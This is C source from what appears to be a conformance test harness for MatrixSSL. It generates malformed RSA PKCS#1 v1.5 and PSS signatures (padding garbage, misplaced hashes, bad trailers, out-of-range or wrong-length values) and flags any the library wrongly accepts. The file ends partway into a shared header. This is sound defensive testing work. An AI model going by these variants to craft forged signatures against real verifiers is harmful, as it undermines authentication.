        static unsigned char po[4] = { 4, 2, 0x11, 0x22 };
        if (!isdi) return NA;
        d.params = po; d.plen = 4; tl = di_build(T, &d); break;
    }
    case N_BT00: t->have_em = 1; return em_wrap(em, k, 0, T, tl);
    case N_BT02: t->have_em = 1; return em_wrap(em, k, 2, T, tl);
    case N_BTFF: t->have_em = 1; return em_wrap(em, k, 0xff, T, tl);
    case N_FIRST01:
        if (em_wrap(em, k, 1, T, tl) == NA) return NA;
        em[0] = 1; t->have_em = 1; return 0;
    case N_HASH_NOT_AT_END_PS8: case N_PS7: case N_PS1: case N_PS0:
    {
        int ps = name == N_HASH_NOT_AT_END_PS8 ? 8 : name == N_PS7 ? 7 : name == N_PS1 ? 1 : 0;
        int gl = k - 3 - ps - tl;
        if (gl < 1) return NA;
        em[0] = 0; em[1] = 1;
        memset(em + 2, 0xff, (size_t) ps);
        em[2 + ps] = 0;
        memcpy(em + 3 + ps, T, (size_t) tl);
        memcpy(em + 3 + ps + tl, g, (size_t) gl);
        t->have_em = 1;
        return 0;
    }
    case N_GARBAGE_IN_PAD: case N_GARBAGE_IN_PAD_ZERO:
    {
        int z = name == N_GARBAGE_IN_PAD_ZERO, gl = k - 11 - tl - z;
        if (gl < 1) return NA;
        em[0] = 0; em[1] = 1;
        memset(em + 2, 0xff, 8);
        em[10] = 0;
        memcpy(em + 11, g, (size_t) gl);
        if (z) em[11 + gl] = 0;
        memcpy(em + 11 + gl + z, T, (size_t) tl);
        t->have_em = 1;
        return 0;
    }
    case N_NO_SEP:
        if (k - 2 - tl < 8) return NA;
        em[0] = 0; em[1] = 1;
        memset(em + 2, 0xff, (size_t) (k - 2 - tl));
        memcpy(em + k - tl, T, (size_t) tl);
        t->have_em = 1;
        return 0;
    case N_SHIFT_LEFT:
        if (em_wrap(em, k - 1, 1, T, tl) == NA) return NA;
        em[k - 1] = 0; t->have_em = 1; return 0;
    case N_SHIFT_RIGHT:
        if (em_wrap(em + 1, k - 1, 1, T, tl) == NA) return NA;
        em[0] = 0; t->have_em = 1; return 0;
    case N_DIG_ZERO:
        memset(dig2, 0, sizeof(dig2));
        tl = digestinfo(T, h, dig2, hl, 0); break;
    case N_DIG_OTHER_MSG:
    {
        unsigned char m2[128];
        int l2 = std_msg(m2, "rsa15", K->bits, h, 99);
        ref_hash(h, m2, (size_t) l2, dig2);
        tl = digestinfo(T, h, dig2, hl, 0); break;
    }
    case N_NO_NULL_TRAIL:
        /* absent NULL + 2 trailing bytes: same total length as the canonical DigestInfo */
        if (!isdi) return NA;
        d.plen = 0; d.gwhere = 1; d.g = g; d.glen = 2; tl = di_build(T, &d); break;
    case N_NULL_TRUNC_DIG:
        /* NULL present, digest 2 bytes short with adjusted lengths: same total length as the absent-NULL form */
        if (!isdi) return NA;
        d.dlen = hl - 2; tl = di_build(T, &d); break;
    default:
        return NA;
    }
    (void) j;
    t->have_em = 1;
    return em_wrap(em, k, 1, T, tl);
}

static int rsa_sig_variant(rsakey_t *K, int name, rtest_t *t, const unsigned char *validsig)
{
    int k = K->k;
    BIGNUM *s = BN_new();
    int rc = 0;
    switch (name)
    {
    case S_PLUS_N:
    {
        int nb;
        BN_bin2bn(validsig, k, s);
        BN_add(s, s, K->n);
        nb = BN_num_bytes(s);
        t->siglen = nb <= k ? k : nb;
        BN_bn2binpad(s, t->sig, t->siglen);
        break;
    }
    case S_LEAD_ZERO_ADDED:
        t->sig[0] = 0; memcpy(t->sig + 1, validsig, (size_t) k); t->siglen = k + 1; break;
    case S_EMPTY:
        t->siglen = 0; break;
    case S_ZEROS:
        memset(t->sig, 0, (size_t) k); t->siglen = k; break;
    case S_ONE:
        memset(t->sig, 0, (size_t) k); t->sig[k - 1] = 1; t->siglen = k; break;
    case S_NM1:
        BN_copy(s, K->n); BN_sub_word(s, 1); BN_bn2binpad(s, t->sig, k); t->siglen = k; break;
    case S_N:
        BN_bn2binpad(K->n, t->sig, k); t->siglen = k; break;
    case S_DOUBLE:
        memcpy(t->sig, validsig, (size_t) k); memcpy(t->sig + k, validsig, (size_t) k); t->siglen = 2 * k; break;
    case S_TRAIL_BYTE:
        memcpy(t->sig, validsig, (size_t) k); t->sig[k] = 0; t->siglen = k + 1; break;
    default:
        rc = NA;
    }
    BN_free(s);
    return rc;
}

/* quick-tier value alphabet for a byte edit */
static int byte_values(unsigned char orig, int thorough_all, int pss, unsigned char *vals)
{
    int n = 0, x, j;
    if (thorough_all)
    {
        for (x = 0; x < 256; x++)
        {
            if (x != orig) vals[n++] = (unsigned char) x;
        }
        return n;
    }
    {
        unsigned char c[5] = { 0x00, 0x01, 0xff, (unsigned char) (orig ^ 0x01), (unsigned char) (orig ^ 0x80) };
        int nc = 5;
        for (x = 0; x < nc; x++)
        {
            int dup = c[x] == orig;
            if (pss && x == 1) dup = 1; /* PSS alphabet: 00, ff, x^01, x^80 */
            for (j = 0; j < n; j++) if (vals[j] == c[x]) dup = 1;
            if (!dup) vals[n++] = c[x];
        }
    }
    return n;
}

static int rsa15_build(rsakey_t *K, int h, int v, long i, rtest_t *t)
{
    int k = K->k, rc;
    unsigned char vs[512];
    memset(t, 0, sizeof(*t));
    t->msglen = std_msg(t->msg, "rsa15", K->bits, h, 0);
    t->dlen = HI[h].len;
    ref_hash(h, t->msg, (size_t) t->msglen, t->dig);
    if (em_canonical(t->emc, k, h, t->dig, 0) == NA)
    {
        return NA;
    }
    t->siglen = k;
    switch (v)
    {
    case V_NAMED:
        if (i < 0 || i >= N_NNAMED) return NA;
        t->name = rsa15_named[i];
        if ((rc = rsa15_named_em(K, h, (int) i, t)) != 0) return rc;
        snprintf(t->human, sizeof(t->human), "EM variant %s", t->name);
        break;
    case V_BYTE:
    {
        long p = i / 256; int x = (int) (i % 256);
        if (p < 0 || p >= k || x == t->emc[p]) return NA;
        memcpy(t->em, t->emc, (size_t) k);
        t->em[p] = (unsigned char) x;
        t->have_em = 1;
        t->name = "em-byte-edit";
        snprintf(t->human, sizeof(t->human), "EM[%ld] %02x -> %02x", p, t->emc[p], x);
        break;
    }
    case V_SIG:
        if (i < 0 || i >= S_NSIG) return NA;
        t->name = rsa_sig_named[i];
        snprintf(t->human, sizeof(t->human), "signature variant %s", t->name);
        if (i == S_LEAD_ZERO_REMOVED)
        {
            int alt;
            for (alt = 1; alt < 4096; alt++)
            {
                t->msglen = std_msg(t->msg, "rsa15", K->bits, h, alt);
                ref_hash(h, t->msg, (size_t) t->msglen, t->dig);
                em_canonical(t->emc, k, h, t->dig, 0);
                if (rsa_priv_op(K, t->emc, k, vs, NULL) < 0) return -1;
                if (vs[0] == 0) break;
            }
            if (alt == 4096) return NA;
            memcpy(t->sig, vs + 1, (size_t) (k - 1));
            t->siglen = k - 1;
            return 0;
        }
        if (i == S_OTHER_MSG)
        {
            unsigned char m2[128], d2[64], e2[512];
            int l2 = std_msg(m2, "rsa15", K->bits, h, 7);
            ref_hash(h, m2, (size_t) l2, d2);
            em_canonical(e2, k, h, d2, 0);
            return rsa_priv_op(K, e2, k, t->sig, NULL);
        }
        if (rsa_priv_op(K, t->emc, k, vs, NULL) < 0) return -1;
        return rsa_sig_variant(K, (int) i, t, vs);
    case V_TRUNC:
        if (i < 0 || i >= k) return NA;
        t->name = "sig-truncated";
        snprintf(t->human, sizeof(t->human), "valid signature truncated to %ld of %d bytes", i, k);
        if (rsa_priv_op(K, t->emc, k, t->sig, NULL) < 0) return -1;
        t->siglen = (int) i;
        return 0;
    default:
        return NA;
    }
    /* sign the EM with the private exponent */
    return rsa_priv_op(K, t->em, k, t->sig, NULL);
}

static const char *api15_name[2][3] = { { "psVerifySig", "psVerify", "pubRsaDecryptSignedElement" },
                                        { "psVerifySig", "psRsaDecryptPub", NULL } };

static int mx_rsa15(rsakey_t *K, int h, int api, const rtest_t *t, int *rcout)
{
    unsigned char *hs = hdup(t->sig, (size_t) t->siglen), *hd = hdup(t->dig, (size_t) t->dlen), *hm = hdup(t->msg, (size_t) t->msglen);
    psVerifyOptions_t o;
    psBool_t res = PS_FALSE;
    int32_t rc = -999;
    int acc = 0;
    unsigned char out[64];
    memset(&o, 0, sizeof(o));
    memset(out, 0, sizeof(out));
    if (h != H_RAW36)
    {
        o.msgIsDigestInfo = PS_TRUE;
        if (api == 0)
        {
            rc = psVerifySig(NULL, hd, (psSizeL_t) t->dlen, hs, (psSize_t) t->siglen, &K->mx, HI[h].rsa_oid, &res, &o);
            acc = (rc == PS_SUCCESS && res == PS_TRUE) ? 1 : (rc == PS_SUCCESS || res == PS_TRUE) ? 2 : 0;
        }
        else if (api == 1)
        {
            rc = psVerify(NULL, hm, (psSizeL_t) t->msglen, hs, (psSize_t) t->siglen, &K->mx, HI[h].rsa_oid, &res, &o);
            acc = (rc == PS_SUCCESS && res == PS_TRUE) ? 1 : (rc == PS_SUCCESS || res == PS_TRUE) ? 2 : 0;
        }
        else
        {
            rc = pubRsaDecryptSignedElement(NULL, &K->mx.key.rsa, hs, (psSize_t) t->siglen, out, (psSize_t) t->dlen, NULL);
            acc = rc >= 0 && memcmp(out, t->dig, (size_t) t->dlen) == 0;
        }
    }
    else
    {
        if (api == 0)
        {
            rc = psVerifySig(NULL, hd, 36, hs, (psSize_t) t->siglen, &K->mx, OID_RSA_TLS_SIG_ALG, &res, &o);
            acc = (rc == PS_SUCCESS && res == PS_TRUE) ? 1 : (rc == PS_SUCCESS || res == PS_TRUE) ? 2 : 0;
        }
        else
        {
            rc = psRsaDecryptPub(NULL, &K->mx.key.rsa, hs, (psSize_t) t->siglen, out, 36, NULL);
            acc = rc >= 0 && memcmp(out, t->dig, 36) == 0;
        }
    }
    free(hs); free(hd); free(hm);
    *rcout = rc;
    return acc;
}

static int run_rsa15(const case_t *c, mx_result_t *r)
{
    rsakey_t *K = rsa_get(c->k);
    static rtest_t t;
    unsigned char rec[512], emnn[512];
    int h = c->h, k, rc, inrange, expected, dontcare = 0, ref, api, napi, nacc = 0, nrej = 0;
    char md[96];
    uint64_t th;

    if (!K || h < 0 || h >= H_N || !HI[h].enabled)
    {
        return NA;
    }
    k = K->k;
    rc = rsa15_build(K, h, c->v, c->i, &t);
    if (rc == NA)
    {
        return NA;
    }
    case_mdesc(c, md, sizeof(md));
    snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d PKCS#1v1.5 %s: %s)", md, K->bits, hash_name[h], t.human);
    if (rc < 0)
    {
        internal_err(r, "rsa-priv-op", "reference private-key operation failed its self-check (%s)", r->desc);
        return 0;
    }
    inrange = rsa_recover(K, t.sig, t.siglen, rec);
    expected = t.siglen == k && inrange && memcmp(rec, t.emc, (size_t) k) == 0;
    if (!expected && t.siglen == k && inrange && h != H_RAW36 && em_canonical(emnn, k, h, t.dig, 1) == 0 &&
        memcmp(rec, emnn, (size_t) k) == 0)
    {
        dontcare = 1; /* AlgorithmIdentifier without NULL parameters: RFC 8017 A.2.4 lets verifiers accept it */
    }
    ref = ref_rsa15_verify(K, h, t.dig, t.sig, t.siglen);
    DUMPF("case %s\n", r->desc);
    dumphex("message", t.msg, (size_t) t.msglen);
    dumphex("digest", t.dig, (size_t) t.dlen);
    dumphex("canonical EM", t.emc, (size_t) k);
    if (t.have_em) dumphex("signed EM", t.em, (size_t) k);
    dumphex("signature", t.sig, (size_t) t.siglen);
    if (inrange) dumphex("recovered s^e mod n", rec, (size_t) k);
    DUMPF("  expected=%s dontcare=%d openssl=%s siglen=%d k=%d s<n=%d\n", expected ? "accept" : "reject", dontcare, ref ? "accept" : "reject", t.siglen, k, inrange);

    if (t.siglen < k && ref && !expected)
    {
        /* OpenSSL converts a short octet string to an integer and verifies it; RFC 8017 8.2.2 step 1 says
           "if the length of the signature S is not k octets, output invalid signature": the RFC rule is the oracle */
        DUMPF("  note: OpenSSL is lenient about a signature shorter than the modulus; RFC 8017 8.2.2 step 1 applies\n");
        ref = 0;
    }
    if (!dontcare && ref != expected)
    {
        internal_err(r, "rsa15-oracle-mismatch", "oracle says %s but OpenSSL says %s for %s", expected ? "valid" : "invalid", ref ? "valid" : "invalid", r->desc);
        return 0;
    }
    napi = h == H_RAW36 ? 2 : 3;
    th = fnv1a(md, strlen(md), FNV0);
    for (api = 0; api < napi; api++)
    {
        int mrc, acc = mx_rsa15(K, h, api, &t, &mrc);
        const char *an = api15_name[h == H_RAW36][api];
        char key[160];
        DUMPF("  MatrixSSL %-28s rc=%d -> %s\n", an, mrc, acc == 1 ? "ACCEPT" : acc == 2 ? "INCONSISTENT" : "reject");
        th = fnv1a(&acc, sizeof(acc), th);
        if (acc == 2)
        {
            snprintf(key, sizeof(key), "rsa-pkcs1|%d|%s|%s|%s|inconsistent-result", K->bits, hash_name[h], t.name, an);
            violate(r, key, "%s returned rc=%d with a contradicting verifyResult", an, mrc);
            acc = 1;
        }
        if (acc) nacc++; else nrej++;
        if (acc && !expected && !dontcare)
        {
            const char *why = t.siglen != k ? "accepted-wrong-length" : !inrange ? "accepted-out-of-range" : "accepted-noncanonical";
            if (t.siglen != k || !inrange)
            {
                snprintf(key, sizeof(key), "rsa-pkcs1|signature-representative|%s|%s", an, why); /* one class for all keys/hashes */
            }
            else
            {
                snprintf(key, sizeof(key), "rsa-pkcs1|%d|%s|%s|%s|%s", K->bits, hash_name[h], t.name, an, why);
            }
            violate(r, key, "%s ACCEPTED an invalid RSA-%d PKCS#1 v1.5 %s signature (%s; siglen %d, recovered EM %s the canonical encoding; OpenSSL rejects)",
                an, K->bits, hash_name[h], t.human, t.siglen, "differs from");
        }
        else if (!acc && expected)
        {
            snprintf(key, sizeof(key), "rsa-pkcs1|%d|%s|%s|%s|rejected-valid", K->bits, hash_name[h], t.name, an);
            violate(r, key, "%s rejected (rc=%d) a valid RSA-%d PKCS#1 v1.5 %s signature (%s)", an, mrc, K->bits, hash_name[h], t.human);
        }
    }
    snprintf(r->outcome, sizeof(r->outcome), "rsa15/%s/%s%s", var_name[c->v], dontcare ? "dontcare-" : "",
        nacc && nrej ? "mixed" : nacc ? "accept" : "reject");
    r->nontrivial = 1;
    r->transitions = (uint32_t) napi;
    r->trace_hash = th;
    return 0;
}

/* -------------------------------------------------------------------- PSS */
enum { P_VALID = 0, P_TRAILER_00, P_TRAILER_BB, P_TRAILER_BD, P_TRAILER_CC, P_TRAILER_FF, P_TOPBIT, P_MGF_OTHER, P_HASH_OTHER,
       P_PS_NONZERO, P_SEP_02, P_MSG_OTHER, P_SALT_BYTE, P_H_BYTE, P_PKCS15_SIG, P_NNAMED };
static const char *pss_named[P_NNAMED] = { "valid", "trailer-00", "trailer-bb", "trailer-bd", "trailer-cc", "trailer-ff", "top-bit-set",
                                           "mgf1-other-hash", "other-hash", "ps-nonzero", "separator-02", "other-msg", "salt-byte-flipped",
                                           "H-byte-flipped", "pkcs1v15-signature" };

static void mgf1(const EVP_MD *md, const unsigned char *seed, int slen, unsigned char *mask, int mlen)
{
    unsigned char buf[80], dg[64];
    unsigned int l, ctr = 0;
    int off = 0;
    memcpy(buf, seed, (size_t) slen);
    while (off < mlen)
    {
        int take;
        buf[slen] = (unsigned char) (ctr >> 24); buf[slen + 1] = (unsigned char) (ctr >> 16);
        buf[slen + 2] = (unsigned char) (ctr >> 8); buf[slen + 3] = (unsigned char) ctr;
        EVP_Digest(buf, (size_t) slen + 4, dg, &l, md, NULL);
        take = mlen - off < (int) l ? mlen - off : (int) l;
        memcpy(mask + off, dg, (size_t) take);
        off += take;
        ctr++;
    }
}

typedef struct { int trailer, ps_nonzero, sep, flip_salt, flip_h, topbit; } pssfault_t;

/* EMSA-PSS-ENCODE (RFC 8017 9.1.1) for emBits = 8*emlen - 1, with optional faults */
static int pss_encode(unsigned char *em, int emlen, int h, int mgfh, const unsigned char *mhash, const unsigned char *salt, int slen, const pssfault_t *f)
{
    unsigned char mp[8 + 64 + 600], H[64], db[600], mask[600];
    unsigned int l;
    int hl = HI[h].len, dbl = emlen - hl - 1, j;
    if (emlen < hl + slen + 2 || slen > 512)
    {
        return NA;
    }
    memset(mp, 0, 8);
    memcpy(mp + 8, mhash, (size_t) hl);
    memcpy(mp + 8 + hl, salt, (size_t) slen);
    EVP_Digest(mp, (size_t) (8 + hl + slen), H, &l, HI[h].md(), NULL);
    memset(db, 0, (size_t) dbl);
    db[dbl - slen - 1] = f && f->sep ? (unsigned char) f->sep : 0x01;
    memcpy(db + dbl - slen, salt, (size_t) slen);
    if (f && f->ps_nonzero)
    {
        if (dbl - slen - 1 < 2) return NA;
        db[1] = 0x01;
    }
    if (f && f->flip_salt)
    {
        if (!slen) return NA;
        db[dbl - 1] ^= 0x01;
    }
    mgf1(HI[mgfh].md(), H, hl, mask, dbl);
    for (j = 0; j < dbl; j++)
    {
        em[j] = db[j] ^ mask[j];
    }
    em[0] &= 0x7f;
    memcpy(em + dbl, H, (size_t) hl);
    if (f && f->flip_h) em[dbl] ^= 0x01;
    em[emlen - 1] = f && f->trailer >= 0 ? (unsigned char) f->trailer : 0xbc;
    if (f && f->topbit) em[0] |= 0x80;
    return 0;
}

static int pss_max_salt(rsakey_t *K, int h) { return K->k - HI[h].len - 2; }

/* salt-length grid of a (key, hash): tier independent, append-only */
static int pss_salt_grid(rsakey_t *K, int h, int *g)
{
    int hl = HI[h].len, mx = pss_max_salt(K, h), n = 0, j, q;
    int c[9] = { 0, 1, hl - 1, hl, hl + 1, mx - 1, mx, mx + 1, 20 };
    for (j = 0; j < 9; j++)
    {
        int dup = c[j] < 0;
        for (q = 0; q < n; q++) if (g[q] == c[j]) dup = 1;
        if (!dup) g[n++] = c[j];
    }
    return n;
}

static int pss_default_salt(rsakey_t *K, int h)
{
    int mx = pss_max_salt(K, h);
    return HI[h].len <= mx ? HI[h].len : mx;
}

static int pss_build(rsakey_t *K, int h, int v, long i, rtest_t *t)
{
    unsigned char salt[600], vs[512];
    int k = K->k, sl = pss_default_salt(K, h), rc;
    pssfault_t f;
    memset(t, 0, sizeof(*t));
    memset(&f, 0, sizeof(f));
    f.trailer = -1;
    if (sl < 0) return NA;
    t->msglen = std_msg(t->msg, "pss", K->bits, h, 0);
    t->dlen = HI[h].len;
    ref_hash(h, t->msg, (size_t) t->msglen, t->dig);
    fill_bytes(salt, sizeof(salt), "pss-salt", K->bits * 10 + h);
    t->salt_sign = t->salt_expect = sl;
    t->siglen = k;
    t->have_em = 1;
    switch (v)
    {
    case V_SALT:
    {
        int g[9], n = pss_salt_grid(K, h, g), si = (int) (i / 16), ti = (int) (i % 16);
        if (si >= n || ti >= n || g[si] > pss_max_salt(K, h)) return NA;
        t->salt_sign = g[si]; t->salt_expect = g[ti];
        t->name = g[si] == g[ti] ? "salt-grid-match" : "salt-grid-mismatch";
        snprintf(t->human, sizeof(t->human), "signed with sLen %d, verifier expects sLen %d (max %d)", g[si], g[ti], pss_max_salt(K, h));
        if (pss_encode(t->em, k, h, h, t->dig, salt, g[si], NULL) == NA) return NA;
        break;
    }
    case V_NAMED:
    {
        int mgfh = h, hh = h;
        const unsigned char *dg = t->dig;
        unsigned char d2[64];
        if (i < 0 || i >= P_NNAMED) return NA;
        t->name = pss_named[i];
        snprintf(t->human, sizeof(t->human), "EM variant %s (sLen %d)", t->name, sl);
        switch (i)
        {
        case P_VALID: break;
        case P_TRAILER_00: f.trailer = 0x00; break;
        case P_TRAILER_BB: f.trailer = 0xbb; break;
        case P_TRAILER_BD: f.trailer = 0xbd; break;
        case P_TRAILER_CC: f.trailer = 0xcc; break;
        case P_TRAILER_FF: f.trailer = 0xff; break;
        case P_TOPBIT: f.topbit = 1; break;
        case P_MGF_OTHER: mgfh = h == H_SHA256 ? (HI[H_SHA1].enabled ? H_SHA1 : H_SHA384) : H_SHA256; break;
        case P_HASH_OTHER:
            hh = h == H_SHA256 ? H_SHA384 : H_SHA256;
            if (!HI[hh].enabled || k < HI[hh].len + sl + 2) return NA;
            ref_hash(hh, t->msg, (size_t) t->msglen, d2); dg = d2; mgfh = hh;
            break;
        case P_PS_NONZERO: f.ps_nonzero = 1; break;
        case P_SEP_02: f.sep = 2; break;
        case P_MSG_OTHER:
        {
            unsigned char m2[128];
            int l2 = std_msg(m2, "pss", K->bits, h, 99);
            ref_hash(h, m2, (size_t) l2, d2); dg = d2;
            break;
        }
        case P_SALT_BYTE: f.flip_salt = 1; break;
        case P_H_BYTE: f.flip_h = 1; break;
        case P_PKCS15_SIG:
            if (em_canonical(t->em, k, h, t->dig, 0) == NA) return NA;
            return rsa_priv_op(K, t->em, k, t->sig, NULL);
        }
        if ((rc = pss_encode(t->em, k, hh, mgfh, dg, salt, sl, &f)) != 0) return rc;
        break;
    }
    case V_BYTE:
    {
        long p = i / 256; int x = (int) (i % 256);
        if (pss_encode(t->em, k, h, h, t->dig, salt, sl, NULL) == NA) return NA;
        if (p < 0 || p >= k || x == t->em[p]) return NA;
        snprintf(t->human, sizeof(t->human), "EM[%ld] %02x -> %02x (sLen %d)", p, t->em[p], x, sl);
        t->em[p] = (unsigned char) x;
        t->name = "em-byte-edit";
        break;
    }
    case V_SIG:
        if (i < 0 || i >= S_NSIG) return NA;
        t->name = rsa_sig_named[i];
        snprintf(t->human, sizeof(t->human), "signature variant %s (sLen %d)", t->name, sl);
        if (i == S_LEAD_ZERO_REMOVED)
        {
            int alt;
            for (alt = 1; alt < 4096; alt++)
            {
                fill_bytes(salt, sizeof(salt), "pss-salt-alt", alt);
                pss_encode(t->em, k, h, h, t->dig, salt, sl, NULL);
                if (rsa_priv_op(K, t->em, k, vs, NULL) < 0) return -1;
                if (vs[0] == 0) break;
            }
            if (alt == 4096) return NA;
            memcpy(t->sig, vs + 1, (size_t) (k - 1));
            t->siglen = k - 1;
            return 0;
        }
        if (i == S_OTHER_MSG)
        {
            unsigned char m2[128], d2[64];
            int l2 = std_msg(m2, "pss", K->bits, h, 7);
            ref_hash(h, m2, (size_t) l2, d2);
            pss_encode(t->em, k, h, h, d2, salt, sl, NULL);
            return rsa_priv_op(K, t->em, k, t->sig, NULL);
        }
        pss_encode(t->em, k, h, h, t->dig, salt, sl, NULL);
        if (rsa_priv_op(K, t->em, k, vs, NULL) < 0) return -1;
        return rsa_sig_variant(K, (int) i, t, vs);
    case V_TRUNC:
        if (i < 0 || i >= k) return NA;
        t->name = "sig-truncated";
        snprintf(t->human, sizeof(t->human), "valid signature truncated to %ld of %d bytes", i, k);
        pss_encode(t->em, k, h, h, t->dig, salt, sl, NULL);
        if (rsa_priv_op(K, t->em, k, t->sig, NULL) < 0) return -1;
        t->siglen = (int) i;
        return 0;
    default:
        return NA;
    }
    return rsa_priv_op(K, t->em, k, t->sig, NULL);
}

static const char *apipss_name[3] = { "psVerifySig", "psVerify(tls13)", "psVerify(OID_RSASSA_PSS)" };

static int mx_pss(rsakey_t *K, int h, int api, const rtest_t *t, int *rcout)
{
    unsigned char *hs = hdup(t->sig, (size_t) t->siglen), *hd = hdup(t->dig, (size_t) t->dlen), *hm = hdup(t->msg, (size_t) t->msglen);
    psVerifyOptions_t o;
    psBool_t res = PS_FALSE;
    int32_t rc;
    memset(&o, 0, sizeof(o));
    o.useRsaPss = PS_TRUE;
    o.rsaPssHashAlg = HI[h].pss_id;
    o.rsaPssHashLen = (psSize_t) HI[h].len;
    o.rsaPssSaltLen = (psSize_t) t->salt_expect;
    if (api == 0)
    {
        rc = psVerifySig(NULL, hd, (psSizeL_t) t->dlen, hs, (psSize_t) t->siglen, &K->mx, OID_RSASSA_PSS, &res, &o);
    }
    else if (api == 1)
    {
        rc = psVerify(NULL, hm, (psSizeL_t) t->msglen, hs, (psSize_t) t->siglen, &K->mx, HI[h].rsa_oid, &res, &o);
    }
    else
    {
        rc = psVerify(NULL, hm, (psSizeL_t) t->msglen, hs, (psSize_t) t->siglen, &K->mx, OID_RSASSA_PSS, &res, &o);
    }
    free(hs); free(hd); free(hm);
    *rcout = rc;
    return (rc == PS_SUCCESS && res == PS_TRUE) ? 1 : (rc == PS_SUCCESS || res == PS_TRUE) ? 2 : 0;
}

static int run_pss(const case_t *c, mx_result_t *r)
{
#ifndef USE_PKCS1_PSS
    return NA;
#else
    rsakey_t *K = rsa_get(c->k);
    static rtest_t t;
    unsigned char rec[512];
    int h = c->h, k, rc, inrange, ref, mine, api, nacc = 0, nrej = 0;
    char md[96];
    uint64_t th;

    if (!K || h < 0 || h >= H_RAW36 || !HI[h].enabled)
    {
        return NA;
    }
    k = K->k;
    rc = pss_build(K, h, c->v, c->i, &t);
    if (rc == NA)
    {
        return NA;
    }
    case_mdesc(c, md, sizeof(md));
    snprintf(r->desc, sizeof(r->desc), "%s (RSA-%d PSS %s: %s)", md, K->bits, hash_name[h], t.human);
    if (rc < 0)
    {
        internal_err(r, "rsa-priv-op", "reference private-key operation failed its self-check (%s)", r->desc);
        return 0;
    }
    inrange = rsa_recover(K, t.sig, t.siglen, rec);
    ref = ref_pss_verify(K, h, h, t.salt_expect, t.dig, t.sig, t.siglen);
    /* the harness' own expectation, by construction of the variant */
    mine = (c->v == V_NAMED && c->i == P_VALID) || (c->v == V_SALT && t.salt_sign == t.salt_expect);
    if (c->v == V_BYTE && c->i / 256 == 0 && inrange)
    {
        mine = ref; /* edits of the top byte can move EM above n: the recovered EM is what counts */
    }
    DUMPF("case %s\n", r->desc);
    dumphex("message", t.msg, (size_t) t.msglen);
    dumphex("digest", t.dig, (size_t) t.dlen);
    dumphex("signed EM", t.em, (size_t) k);
    dumphex("signature", t.sig, (size_t) t.siglen);
    if (inrange) dumphex("recovered s^e mod n", rec, (size_t) k);
    DUMPF("  expected=%s openssl=%s sLen(sign)=%d sLen(verify)=%d siglen=%d k=%d s<n=%d\n", mine ? "accept" : "reject", ref ? "accept" : "reject",
        t.salt_sign, t.salt_expect, t.siglen, k, inrange);
    if (t.siglen < k && ref && !mine)
    {
        /* see run_rsa15: OpenSSL accepts short signatures, RFC 8017 8.1.2 step 1 does not */
        DUMPF("  note: OpenSSL is lenient about a signature shorter than the modulus; RFC 8017 8.1.2 step 1 applies\n");
        ref = 0;
    }
    if (ref != mine)
    {
        internal_err(r, "pss-oracle-mismatch", "harness expects %s but OpenSSL says %s for %s", mine ? "valid" : "invalid", ref ? "valid" : "invalid", r->desc);
        return 0;
    }
    th = fnv1a(md, strlen(md), FNV0);
    for (api = 0; api < 3; api++)
    {
        int mrc, acc = mx_pss(K, h, api, &t, &mrc);
        char key[160];
        DUMPF("  MatrixSSL %-28s rc=%d -> %s\n", apipss_name[api], mrc, acc == 1 ? "ACCEPT" : acc == 2 ? "INCONSISTENT" : "reject");
        th = fnv1a(&acc, sizeof(acc), th);
        if (acc == 2)
        {
            snprintf(key, sizeof(key), "rsa-pss|%d|%s|%s|%s|inconsistent-result", K->bits, hash_name[h], t.name, apipss_name[api]);
            violate(r, key, "%s returned rc=%d with a contradicting verifyResult", apipss_name[api], mrc);
            acc = 1;
        }
        if (acc) nacc++; else nrej++;
        if (acc && !ref)
        {
            const char *why = t.siglen != k ? "accepted-wrong-length" : !inrange ? "accepted-out-of-range" : "accepted-invalid-encoding";
            if (t.siglen != k || !inrange)
            {
                snprintf(key, sizeof(key), "rsa-pss|signature-representative|%s|%s", apipss_name[api], why); /* one class for all keys/hashes */
            }
            else
            {
                snprintf(key, sizeof(key), "rsa-pss|%d|%s|%s|%s|%s", K->bits, hash_name[h], t.name, apipss_name[api], why);
            }
            violate(r, key, "%s ACCEPTED an invalid RSA-%d PSS %s signature (%s; siglen %d, modulus %d bytes; OpenSSL rejects; RFC 8017 8.1.2/9.1.2)",
                apipss_name[api], K->bits, hash_name[h], t.human, t.siglen, k);
        }
        else if (!acc && ref)
        {
            snprintf(key, sizeof(key), "rsa-pss|%d|%s|%s|%s|rejected-valid", K->bits, hash_name[h], t.name, apipss_name[api]);
            violate(r, key, "%s rejected (rc=%d) a valid RSA-%d PSS %s signature (%s)", apipss_name[api], mrc, K->bits, hash_name[h], t.human);
        }
    }
    snprintf(r->outcome, sizeof(r->outcome), "pss/%s/%s", var_name[c->v], nacc && nrej ? "mixed" : nacc ? "accept" : "reject");
    r->nontrivial = 1;
    r->transitions = 3;
    r->trace_hash = th;
    return 0;
#endif
}

#endif /* C11_RSA_H */
