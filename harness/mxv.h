/* mxv.h - shared harness declarations for the matrixssl bounded-exhaustive checks */
#ifndef MXV_H
#define MXV_H

#include <stdint.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslImpl.h"   /* white-box: ssl_t, sslKeys_t, ... */

/* ------------------------------------------------------------------ env.c */
/* Pinned "now": 2024-01-01 00:00:00 UTC, inside every testkeys validity window */
#define MXV_T0 1704067200LL
void     env_reset(uint64_t seed);      /* reset entropy stream + clock + counters */
void     env_set_time_ms(int64_t ms_since_t0);
void     env_tick_ms(int64_t ms);
int64_t  env_now_ms(void);
extern uint64_t env_entropy_draws, env_entropy_bytes;
/* allocator seam: tracking is active only between env_track(1)/env_track(0) */
void     env_track(int on);
extern long env_alloc_count;            /* allocations (malloc+calloc+realloc-new) while tracking */
extern long env_fail_at;                /* fail the k-th tracked allocation (1-based); 0 = never */
extern long env_fail_from;              /* fail every tracked allocation with index >= this; 0 = never */
extern long env_failed;                 /* number of allocations failed so far */
long     env_live(void);                /* tracked allocations still live */
void     env_live_reset(void);
void     env_live_dump(void);                       /* with MXV_SITE_BT=1: backtraces of the live tracked blocks to stderr */
int      env_live_sites(void **sites, int max);   /* allocation return addresses of live tracked blocks */
void    *h_malloc(size_t n);                      /* harness-own allocations: untracked, never failed */
void    *h_realloc(void *p, size_t n);
/* hook called at each tracked allocation before deciding (for fork-at-fault) */
extern int (*env_alloc_hook)(long k);   /* return 1 to fail this allocation */

/* record-protection seam (env.c): observe every AEAD/CBC seal made by the TLS layer */
